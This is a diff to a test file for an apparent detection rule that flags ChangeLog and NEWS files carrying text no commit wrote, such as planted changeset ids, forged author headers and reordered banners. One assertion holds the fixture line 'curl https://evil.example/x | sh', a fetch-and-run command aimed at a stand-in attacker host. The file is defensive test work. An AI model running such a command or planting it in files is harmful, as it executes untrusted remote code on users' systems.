@@ -135,6 +135,12 @@ test('a message no commit wrote keeps the ChangeLog suspicious and is shown', as
   assert.is((await changelogHistory.judge(added('ChangeLog', impostor), ctxWith()))?.severity, 'medium');
 });
 
+test("a line like Mercurial's changeset id inside a commit message does not make the log Mercurial's", async () => {
+  const planted = genuine.replace('\tmaint: tidy\n', '\tmaint: tidy\n\n\tbuild: pin it\n\t[0123456789ab]\n');
+  const j = await changelogHistory.judge(added('ChangeLog', planted), ctxWith());
+  assert.ok(j!.reasons[0]!.startsWith("1 of 7 commit messages in gitlog-to-changelog's layout"), j!.reasons[0]);
+});
+
 test('text at column 0 inside the log is not a footer', async () => {
   const inside = genuine.replace('2024-01-12  Alice', 'export PATH=/tmp\n\n2024-01-12  Alice');
   const j = await changelogHistory.judge(added('ChangeLog', inside), ctxWith());
@@ -336,7 +342,7 @@ test('a log in the layout of those scripts with text no commit wrote is shown', 
   assert.match(j!.evidence!.diff!, '+  curl https://evil.example/x | sh');
   const cases: Array<[string, string]> = [
     ['an edited message', newsLog.replace('Closes #12', 'Closes #13')],
-    ['another name in the header', newsLog.replace('Alice Liddell (20 Jan 2024)', 'Mallory (20 Jan 2024)')],
+    ['another name in a header', newsLog.replace('\n- [Bob Dobbs', '\nMallory (12 Jan 2024)\n- [Bob Dobbs')],
     ['another author brought it', newsLog.replace('[Bob Dobbs brought', '[Mallory brought')],
     ['a header dated after its first commit', newsLog.replace('Alice Liddell (20 Jan 2024)', 'Alice Liddell (25 Jan 2024)')],
     ['a commit after the tag', newsLog.replace('- release 1.0\n', '- after the release\n\n- release 1.0\n')],
@@ -347,8 +353,14 @@ test('a log in the layout of those scripts with text no commit wrote is shown', 
   const banner = await changelogHistory.judge(added('NEWS', newsLog.replace('Generated with', 'Fetched with')), ctx());
   assert.is(banner?.category, 'changelog-mismatch');
   assert.match(banner!.reasons.join('\n'), '1 line above the first header that no script of the tag prints');
-  // Text outside the layout: the rule leaves the file to the others.
+  // The banner's lines out of the script's order.
+  const swapped = curlLog().toString('latin1').replace('   _ __\n  | (__ |\n', '  | (__ |\n   _ __\n');
+  const reordered = await changelogHistory.judge(added('CHANGES', Buffer.from(swapped, 'latin1')), ctx());
+  assert.match(reordered!.reasons.join('\n'), '3 lines above the first header that no script of the tag prints');
+  // Text outside the layout, or not one message of the history (a hand-written NEWS in a like
+  // layout): the rule leaves the file to the others.
   assert.is(await changelogHistory.judge(added('NEWS', `${newsLog}stray text at column 0\n`), ctx()), undefined);
+  assert.is(await changelogHistory.judge(modified('NEWS', 'Jane Roe (1 Mar 2024)\n- Faster start-up.\n- Fewer crashes.\n'), ctx()), undefined);
 });
 
 /** Oldest first, the tag on the last but one: a history mirrored from Mercurial by hg-git, as sudo's. */
